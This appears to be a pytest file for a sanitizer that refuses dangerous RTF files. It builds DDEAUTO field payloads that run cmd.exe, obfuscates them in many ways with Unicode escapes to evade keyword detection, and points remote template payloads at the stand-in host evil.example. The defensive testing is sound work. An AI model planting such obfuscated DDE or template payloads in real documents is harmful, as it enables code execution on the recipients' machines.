"""Instructions in rich text are read as Word reads them, however their letters are written."""

import pytest

from tests.sm_plugin.files.inspecting import kept, refusal

CMD = rb" c:\\windows\\system32\\cmd.exe /k calc"
SERVER = rb"//evil.example/x.dotm"


def field(instruction: bytes, before: bytes = b"") -> bytes:
    return rb"{\rtf1\ansi" + before + rb"{\field{\*\fldinst " + instruction + rb"}{\fldrslt x}}}"


def template(target: bytes, before: bytes = b"") -> bytes:
    return rb"{\rtf1\ansi" + before + rb"{\*\template " + target + rb"}Pain.}"


@pytest.mark.parametrize(
    ("start", "before"),
    [
        (rb"{\uc0\u68 DEAUTO", b""),
        (rb"{\uc0\u-65468 DEAUTO", b""),
        (rb"{\uc0\u65604\u68 EAUTO", b""),
        (rb"{\u68 ?DEAUTO", b""),
        (rb"{\u68\'44DEAUTO", b""),
        (rb"{\uc2\u68 ??DEAUTO", b""),
        (rb"{\uc2\u68\'44\'45DEAUTO", b""),
        (rb"{\uc3\u68 ?" + b"\r\n" + rb"\'45?DEAUTO", b""),
        (rb"{\uc2\u68 ?}{DEAUTO", b""),
        (rb"{\u68 DEAUTO", rb"\uc0 "),
        (rb"{{\u68 DEAUTO}", rb"\uc0{\uc2 }"),
        (rb"{{\uc0 }\u68 ?DEAUTO", b""),
        (rb"{\uc0\u68 {\uc3\u68 ???}\u69 AUTO", b""),
        (rb"{\uc\u68 ?DEAUTO", rb"\uc0 "),
        (rb"{\uc-1\u68 DEAUTO", b""),
        (rb"{{\*\formfield{\fftype0{\*\ffname a}}}DDEAUTO", b""),
        (rb"{{\*\bkmkstart a}DDEAUTO", b""),
    ],
)
def test_letters_written_as_numbers_are_followed_by_as_many_others_as_the_group_says(start, before):
    assert refusal("a.rtf", field(start + CMD + b"}", before)) == "file_acts"


@pytest.mark.parametrize(
    ("start", "before"),
    [
        (rb"\uc0\u47", b""),
        (rb"\uc0\u104 ttp:", b""),
        (rb"\uc2\u47 ??", b""),
        (rb"\u47 ", rb"\uc0 "),
        (rb"{\u47 }", rb"\uc0{\uc1 }"),
    ],
)
def test_a_template_whose_address_is_written_in_numbers_is_read_in_the_same_way(start, before):
    target = start + (SERVER if b"104" in start else SERVER.removeprefix(b"/"))

    assert refusal("a.rtf", template(target, before)) == "file_embeds"


@pytest.mark.parametrize(
    "instruction",
    [
        rb"\u68\u68 DEAUTO",
        rb"\u68\b ?DEAUTO",
        rb"\u68\uc0 ?DEAUTO",
        rb"\u00000000000068 DEAUTO",
        rb"{\*\unknown X}DDEAUTO",
        rb"\upr{PAGE}{\*\ud{DDEAUTO x}}",
        rb"\u68\bin1 ?DEAUTO",
    ],
)
def test_an_instruction_that_readers_take_in_different_ways_is_refused(instruction):
    assert refusal("a.rtf", field(instruction)) == "file_damaged"


@pytest.mark.parametrize(
    "content",
    [
        rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd",
        rb"{\rtf1{\field{\*\fldinst {DDEAUTO cmd}",
        rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd\fldinst PAGE}}}",
    ],
)
def test_an_instruction_acts_without_its_end_too(content):
    assert refusal("a.rtf", content) == "file_acts"


@pytest.mark.parametrize(
    "content",
    [
        field(rb'HYPERLINK "http://example.org/caf\u233 ?"'),
        field(rb'{\uc0 HYPERLINK "http://example.org/\u-10179\u-8704"}'),
        field(rb'HYPERLINK "http://example.org/\u-10179 ?\u-8704\'3f"'),
        field(rb" FORMTEXT {\*\formfield{\fftype0{\*\ffname Text1}{\*\ffdeftext DDE}}} "),
        field(rb"{\rtlch\fcs1 \af0 \ltrch\fcs0 \insrsid123  PAGE }{\*\datafield 0800}"),
        field(rb"PAGE", rb"\uc1 It\u8217\'92s \u233\b  sore{\uc2\u9731 ??}"),
        template(rb"C:\\\\Users\\\\jos\u233\'e9\\\\a.dotx"),
    ],
)
def test_a_rich_text_with_letters_of_many_languages_is_taken(content):
    assert kept("a.rtf", content).content == content
